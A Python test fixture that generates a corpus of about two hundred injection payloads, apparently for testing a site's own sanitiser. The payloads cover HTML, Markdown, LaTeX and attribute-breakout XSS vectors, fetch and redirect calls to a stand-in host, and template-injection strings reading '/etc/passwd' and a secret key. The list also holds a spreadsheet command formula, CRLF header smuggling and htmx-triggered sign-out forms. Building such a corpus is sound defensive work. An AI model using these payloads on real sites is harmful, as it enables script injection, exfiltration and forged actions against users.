"""Two hundred texts that try to run, load, style, navigate or break out, of many families; ours, for our pages."""

from __future__ import annotations

OFF = "http://192.0.2.1"
CODES = ["alert(1)", "prompt`1`", "confirm(document.domain)", f"fetch('{OFF}/f')", f"location='{OFF}/l'"]
ELEMENTS = [
    "<script>{c}</script>", "<script src={o}/s.js></script>", "<ScRiPt >{c}</sCrIpT>", "<script\n>{c}</script\t>",
    "<script type=module>{c}</script>", "<script>{c}//", "<<script>{c}//<</script>", "<scr<script>ipt>{c}</scr</script>ipt>",
    "<img src=x onerror={c}>", "<img src={o}/p.png>", "<IMG SRC=x ONERROR='{c}'>", "<img/src=x/onerror={c}>",
    "<img srcset='{o}/p.png 1x'>", "<svg onload={c}>", "<svg/onload={c}>", "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><use href='data:image/svg+xml,<svg id=x onload={c}/>#x'/>",
    "<svg><image href={o}/i.png></svg>", "<svg><foreignObject><iframe srcdoc='<script>{c}</script>'>", "<iframe src={o}>",
    "<iframe srcdoc='<script>{c}</script>'></iframe>", "<iframe src=javascript:{c}>", "<object data={o}/o.swf></object>",
    "<object data=javascript:{c}>", "<embed src={o}/e>", "<embed src=javascript:{c}>", "<applet code=x archive={o}/a.jar>",
    "<link rel=stylesheet href={o}/l.css>", "<link rel=prefetch href={o}/f>", "<link rel=dns-prefetch href=//{h}>",
    "<style>@import '{o}/i.css';</style>", "<style>*{{background:url({o}/b)}}</style>", "<style>body{{display:none}}</style>",
    "<meta http-equiv=refresh content='0;url={o}'>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<base href={o}/>", "<body onload={c}>", "<body background={o}/b.png>", "<input autofocus onfocus={c}>",
    "<select autofocus onfocus={c}>", "<textarea autofocus onfocus={c}>", "<keygen autofocus onfocus={c}>",
    "<video src=x onerror={c}>", "<video poster={o}/p.png>", "<video><source onerror={c} src=x></video>", "<audio src={o}/a.mp3>",
    "<audio src=x onerror={c}>", "<details open ontoggle={c}>x</details>", "<marquee onstart={c}>x</marquee>",
    "<a href=javascript:{c} id=auto>x</a>", "<a href={o} ping={o}/ping>x</a>", "<a href='data:text/html,<script>{c}</script>'>x</a>",
    "<form action={o}><input type=submit id=auto></form>", "<form action=javascript:{c}><button autofocus>x</button></form>",
    "<button formaction=javascript:{c}>x</button>", "<isindex action=javascript:{c} type=image>", "<table background={o}/t.png>",
    "<div style='background:url({o}/d.png)'>x</div>", "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<div onpointerover={c}>x</div>", "<p onmouseover={c} style=font-size:900px>x</p>", "<template><script>{c}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={c}>'>", "<xmp><script>{c}</script></xmp>", "<plaintext>{c}",
    "<title><script>{c}</script></title>", "</title><script>{c}</script>", "</textarea><script>{c}</script>",
    "</style><script>{c}</script>", "</main></div><script>{c}</script>", "--><script>{c}</script><!--", "]]><script>{c}</script>",
    "<![CDATA[<script>{c}</script>]]>", "<?xml version='1.0'?><script>{c}</script>", "<!--[if gte IE 4]><script>{c}</script><![endif]-->",
    "<math><mtext><img src=x onerror={c}></mtext></math>", "<math href=javascript:{c}>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:{c}>x",
    "<math><mi//xlink:href='data:x,<script>{c}</script>'>", "<portal src={o}>", "<dialog open onclose={c}>x</dialog>",
    "<x onclick={c} tabindex=1 autofocus onfocus={c}>", "<custom-element oncontentvisibilityautostatechange={c}>",
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:{c})", "[x](JaVaScRiPt:{c})", "[x](java\nscript:{c})", "[x](&#106;avascript:{c})", "[x](data:text/html,<script>{c}</script>)",
    "[x](vbscript:{c})", "![x]({o}/m.png)", "![x](javascript:{c})", "![x][r]\n\n[r]: {o}/r.png", "<javascript:{c}>", "<{o}/auto>",
    "[x]({o} \"onmouseover={c}\")", "[x]({o}'onmouseover={c}')", "![a\"onerror={c}]({o}/q.png)", "`<script>{c}</script>`",
    "```\n</code></pre><script>{c}</script>\n```", "```<script>{c}</script>\nx\n```", "```html\n<script>{c}</script>\n```",
    "```\" onmouseover={c} x=\"\nx\n```", "# <script>{c}</script>", "> <img src=x onerror={c}>", "- <svg onload={c}>", "| <img src=x onerror={c}> |\n|---|\n| {c} |",
    "***<script>{c}</script>***", "~~<iframe src={o}>~~", "\\<script>{c}\\</script>", "1. ![x]({o}/n.png)", "[![x]({o}/i.png)](javascript:{c})",
]  # fmt: skip
FORMULAS = [
    "$\\href{{javascript:{c}}}{{x}}$", "$\\text{{<script>{c}</script>}}$", "$$\\text{{<img src=x onerror={c}>}}$$", "$\\style{{x}}{{<img src=x onerror={c}>}}$",
    "\\(\\url{{{o}}}\\)", "\\[\\includegraphics{{{o}/g.png}}\\]", "$\\class{{x\" onmouseover=\"{c}}}{{y}}$", "$\\def\\a{{<script>}}\\a$",
    "$\\unicode{{<script>{c}</script>}}$", "$\\mbox{{</math><script>{c}</script>}}$", "$\\operatorname{{<svg onload={c}>}}$", "$\\color{{red;background:url({o})}}{{x}}$",
    "$\\text{{</mtext></math><img src=x onerror={c}>}}$", "$\\tag{{<img src={o}/t.png>}} x$",
]  # fmt: skip
ATTRIBUTES = [
    '" onmouseover={c} x="', "' onmouseover={c} x='", '" autofocus onfocus={c} x="', "'><script>{c}</script>", '"><script>{c}</script>', '"><img src={o}/a.png>',
    "` onmouseover={c} `", "\" style=\"background:url({o})\"", "javascript:{c}", "javascript:{c}//http://x", "data:text/html,<script>{c}</script>", "\tjavascript:{c}",
    "\u0001javascript:{c}", "//{h}/x", "\\\\{h}\\x", "{o}/x", "'-{c}-'", "\"-{c}-\"", "\\'-{c}//", "</script><script>{c}</script>", "${{{c}}}", "{{{{constructor.constructor('{c}')()}}}}",
    "{{% debug %}}", "{{% include '/etc/passwd' %}}", "{{{{ settings.SECRET_KEY }}}}", "#{{{c}}}", "<%= {c} %>", "[[{c}]]", "%3Cscript%3E{c}%3C/script%3E", "&lt;script&gt;{c}&lt;/script&gt;",
    "&#60;script&#62;{c}&#60;/script&#62;", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "\\x3cscript\\x3e{c}", "+ADw-script+AD4-{c}+ADw-/script+AD4-", "\u202e<script>{c}</script>",
    "<\u200bscript>{c}</script>", "＜script＞{c}＜/script＞", "<scr\u0130pt>{c}</scr\u0130pt>", "a" * 300 + "<script>{c}</script>", "\x1b[31m<script>{c}</script>", "x\r\nSet-Cookie: a=b\r\n\r\n<script>{c}</script>",
    "=cmd|'/c {c}'!A0", "@SUM(1)*{c}", "\u2028<script>{c}</script>", "<script>{c}</script>" * 20, "hx-get={o} hx-trigger=load", "<div hx-get={o} hx-trigger=load>x</div>", "<div hx-on:load={c}>x</div>", "<div data-hx-get={o} data-hx-trigger=load>",
    "<form hx-post=/sign-out/ hx-trigger=load>", "<input name=submit_key value=x form=answer>", "<input name=csrfmiddlewaretoken value=x>", "<button form=answer>x</button>", "<a href=#auto data-do=source>x</a>", "<div data-item data-assignment=1>x</div>",
]  # fmt: skip


def strings() -> list[str]:
    """Every template with one of the codes, all different."""
    host = OFF.partition("//")[2]
    made = [
        template.format(c=CODES[at % len(CODES)], o=OFF, h=host)
        for at, template in enumerate([*ELEMENTS, *MARKDOWN, *FORMULAS, *ATTRIBUTES])
    ]
    more = [template.format(c=CODES[1 + at % 4], o=OFF, h=host) for at, template in enumerate(ELEMENTS[:60])]
    return list(dict.fromkeys(made + more))
